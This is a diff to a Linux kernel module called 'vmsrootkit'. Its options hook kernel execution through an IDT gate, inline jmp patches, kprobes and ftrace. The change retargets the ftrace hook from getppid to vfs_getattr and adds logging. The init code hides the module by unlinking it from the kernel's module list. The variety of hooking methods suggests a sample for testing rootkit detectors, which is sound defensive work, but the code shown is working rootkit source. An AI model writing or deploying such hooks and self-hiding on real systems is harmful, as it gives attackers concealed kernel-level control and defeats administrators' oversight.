@@ -12,7 +12,7 @@
  *   idt_table=ADDR idt_vector=N      point IDT gate N at our handler
  *   patch_addr=ADDR     plant a jmp at the start of a kernel function (inline hook)
  *   kprobe_hook=1       register a kprobe on __x64_sys_getppid with our handler
- *   ftrace_hook=1       register an ftrace callback on __x64_sys_getppid
+ *   ftrace_hook=1       register an ftrace callback on vfs_getattr
  */
 #include <linux/cred.h>
 #include <linux/ftrace.h>
@@ -109,8 +109,13 @@ static int __init vms_init(void)
 	}
 	if (kprobe_hook)
 		register_kprobe(&vms_kprobe);
-	if (ftrace_hook && !ftrace_set_filter(&vms_ftrace_ops, "__x64_sys_getppid", 17, 0))
-		register_ftrace_function(&vms_ftrace_ops);
+	if (ftrace_hook) {
+		int err = ftrace_set_filter(&vms_ftrace_ops, (unsigned char *)"vfs_getattr", 11, 0);
+
+		if (!err)
+			err = register_ftrace_function(&vms_ftrace_ops);
+		pr_info("vmsrootkit: ftrace hook: %d\n", err);
+	}
 	if (hide_self)
 		list_del_init(&THIS_MODULE->list);
 	return 0;
